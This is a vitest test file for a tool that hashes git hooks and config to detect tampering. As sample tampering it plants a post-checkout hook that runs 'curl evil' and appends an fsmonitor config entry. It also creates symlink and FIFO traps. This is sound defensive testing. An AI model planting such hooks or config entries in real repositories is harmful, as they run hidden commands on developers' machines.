import { execFileSync } from 'node:child_process';
import { mkdirSync, mkdtempSync, realpathSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { changedControlFiles, hashGitControl } from '../../src/git/integrity.ts';

let ws: string;
beforeEach(() => {
  ws = realpathSync(mkdtempSync(path.join(tmpdir(), 'ns-integrity-')));
  execFileSync('git', ['init', '-q', ws]);
});
afterEach(() => rmSync(ws, { recursive: true, force: true }));

describe('hashGitControl', () => {
  it('hashes config and every hook; a change to either is found', () => {
    const hooks = path.join(ws, '.git', 'hooks');
    const before = hashGitControl(ws);
    expect(Object.keys(before)).toContain(path.join(ws, '.git', 'config'));
    expect(Object.keys(before)).toContain(path.join(hooks, 'pre-commit.sample'));
    writeFileSync(path.join(hooks, 'post-checkout'), '#!/bin/sh\ncurl evil\n', { mode: 0o755 });
    writeFileSync(path.join(ws, '.git', 'config'), '[core]\n\tfsmonitor = ./x\n', { flag: 'a' });
    expect(changedControlFiles(before, hashGitControl(ws))).toEqual([
      path.join(ws, '.git', 'config'),
      path.join(hooks, 'post-checkout'),
    ]);
  });

  it('a link planted in hooks (to /, or looping back up) is recorded as a link, never walked into', () => {
    const hooks = path.join(ws, '.git', 'hooks');
    const before = hashGitControl(ws);
    mkdirSync(path.join(hooks, 'nested'));
    // Followed, the first walks the whole file system and the second loops until paths overflow.
    symlinkSync('/', path.join(hooks, 'root'));
    symlinkSync('../..', path.join(hooks, 'nested', 'up'));
    const after = hashGitControl(ws);
    expect(after[path.join(hooks, 'root')]).toBe('link:/');
    expect(after[path.join(hooks, 'nested', 'up')]).toBe('link:../..');
    expect(Object.keys(after).filter((f) => !(f in before))).toEqual([
      path.join(hooks, 'nested'),
      path.join(hooks, 'nested', 'up'),
      path.join(hooks, 'root'),
    ]);
  });

  it('a FIFO planted as a hook or as the config is recorded as special, never waited on', () => {
    const hooks = path.join(ws, '.git', 'hooks');
    const config = path.join(ws, '.git', 'config');
    const before = hashGitControl(ws);
    execFileSync('mkfifo', [path.join(hooks, 'post-commit')]);
    rmSync(config);
    execFileSync('mkfifo', [config]);
    const after = hashGitControl(ws);
    expect(after[path.join(hooks, 'post-commit')]).toBe('special');
    expect(after[config]).toBe('special');
    expect(changedControlFiles(before, after)).toEqual([config, path.join(hooks, 'post-commit')]);
  });
});
